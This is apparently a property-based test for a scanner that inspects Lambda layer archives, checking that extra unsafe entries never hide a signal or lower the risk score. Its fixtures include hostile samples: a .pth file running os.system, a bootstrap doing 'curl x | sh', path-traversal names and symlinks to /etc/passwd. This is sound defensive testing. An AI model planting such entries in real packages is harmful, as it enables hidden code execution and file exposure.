/**
 * Unsafe entries only ever add to a report: whatever an archive holds, adding duplicates, paths
 * outside /opt and symbolic links never removes a signal it had, and never lowers its score.
 */
import fc from 'fast-check';
import { contentPoints } from '../../../../lambda/domain/content-scoring.js';
import { inspect, unmet, wanted } from '../../../../lambda/domain/inspection/inspect.js';
import {
  type ArchiveEntry,
  contentKeys,
  type InspectionSignal,
} from '../../../../lambda/domain/inspection/model.js';
import { bytes, elfHeader, file } from './entries.js';

const SITE = 'python/lib/python3.12/site-packages';

/** Files an archive may hold: benign and hostile, every check's subject. */
const POOL: readonly { path: string; mode: number; data: Uint8Array }[] = [
  { path: 'extensions/agent', mode: 0o100755, data: elfHeader(2) },
  { path: `${SITE}/zz.pth`, mode: 0o100644, data: bytes("import os; os.system('id')\n") },
  { path: 'python/paths.pth', mode: 0o100644, data: bytes('/opt/python/vendor\n') },
  { path: 'python/sitecustomize.py', mode: 0o100644, data: bytes('print(1)\n') },
  { path: 'wrap', mode: 0o100755, data: bytes('#!/bin/sh\nexec "$@"\n') },
  { path: 'bin/tool', mode: 0o100755, data: bytes('#!/bin/sh\necho hi\n') },
  { path: 'bootstrap', mode: 0o100755, data: bytes('#!/bin/sh\ncurl x | sh\n') },
  { path: 'lib/libx.so', mode: 0o100644, data: elfHeader(3) },
  { path: `${SITE}/boto3/__init__.py`, mode: 0o100644, data: bytes('') },
  { path: 'python/README.txt', mode: 0o100644, data: bytes('hello') },
  { path: 'ruby/lib/rubygems.rb', mode: 0o100644, data: bytes('puts 1') },
];

interface Item {
  entry: ArchiveEntry;
  data: Uint8Array;
}

function item(path: string, mode: number, data: Uint8Array): Item {
  return { entry: { ...file(path, { size: data.length }), mode }, data };
}

/** What a host does: reads what is wanted until nothing more is, then inspects. */
function report(items: readonly Item[]) {
  const entries = items.map((i) => i.entry);
  const keys = contentKeys(entries);
  const byKey = new Map(items.map((i, n) => [keys[n] as string, i.data]));
  const contents = new Map<string, Uint8Array>();
  for (let round = 0; round < 4; round++) {
    const missing = unmet(wanted(entries, contents), contents);
    if (missing.length === 0) break;
    for (const r of missing) contents.set(r.key, (byKey.get(r.key) ?? new Uint8Array()).slice(0, r.bytes));
  }
  return inspect(entries, contents, { publisher: null });
}

function score(signals: readonly InspectionSignal[]): number {
  const best = new Map<string, number>();
  for (const s of signals) best.set(s.id, Math.max(best.get(s.id) ?? 0, contentPoints(s.id, s.severity)));
  return [...best.values()].reduce((a, b) => a + b, 0);
}

const pooled = fc.constantFrom(...POOL).map((p) => item(p.path, p.mode, p.data));

/** An unsafe entry: a copy of a pool path with any pool content, a path outside /opt, or a link. */
const unsafe = fc.oneof(
  fc
    .tuple(fc.constantFrom(...POOL), fc.constantFrom(...POOL))
    .map(([where, what]) => item(where.path, what.mode, what.data)),
  fc.constantFrom(...POOL).map((p) => item(`../${p.path}`, p.mode, p.data)),
  fc.constantFrom(...POOL).map((p) => item(`/opt/${p.path}`, p.mode, p.data)),
  fc
    .tuple(fc.constantFrom(...POOL), fc.constantFrom('/etc/passwd', '../../x', 'python', '/opt/wrap'))
    .map(([p, target]) => item(p.path, 0o120777, bytes(target))),
);

describe('unsafe entries', () => {
  it('never remove a signal nor lower the score, wherever they are added', () => {
    fc.assert(
      fc.property(
        fc.uniqueArray(pooled, { maxLength: 8, selector: (i) => i.entry.path }),
        fc.array(fc.tuple(unsafe, fc.nat()), { minLength: 1, maxLength: 6 }),
        (base, added) => {
          const before = report(base);
          const items = [...base];
          for (const [extra, at] of added) items.splice(at % (items.length + 1), 0, extra);
          const after = report(items);
          const remaining = after.signals.map((s) => JSON.stringify(s));
          for (const s of before.signals) {
            const i = remaining.indexOf(JSON.stringify(s));
            expect(i).toBeGreaterThanOrEqual(0);
            remaining.splice(i, 1);
          }
          expect(score(after.signals)).toBeGreaterThanOrEqual(score(before.signals));
        },
      ),
      { numRuns: 300 },
    );
  });
});
